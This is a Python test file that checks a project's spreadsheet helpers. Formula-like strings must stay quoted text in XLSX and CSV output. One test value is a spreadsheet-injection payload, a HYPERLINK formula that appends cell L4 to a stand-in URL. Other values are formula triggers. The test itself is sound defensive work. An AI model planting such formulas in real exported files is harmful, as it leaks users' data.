"""Cells the project writes: a formula-like text stays text in XLSX (graph/core/spreadsheets.py)."""

from __future__ import annotations

from openpyxl import Workbook, load_workbook

from graph.core.spreadsheets import csv_text, put


def test_formula_like_text_is_text_in_xlsx_and_csv(tmp_path):
    title = '=HYPERLINK("http://x"&L4,"y")'
    values = [title, "+86 597", "-1+2", "@SUM(A1)", "\tx", "plain"]
    wb = Workbook()
    ws = wb.active
    for i, v in enumerate(values, start=1):
        put(ws, 1, i, v)
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    cells = [back.cell(row=1, column=i) for i in range(1, len(values) + 1)]
    assert [(c.value, c.data_type) for c in cells] == [(v, "s") for v in values]
    assert [c.quotePrefix for c in cells] == [True, True, True, True, True, False]
    assert [csv_text(v) for v in values] == ["'" + v for v in values[:5]] + ["plain"]
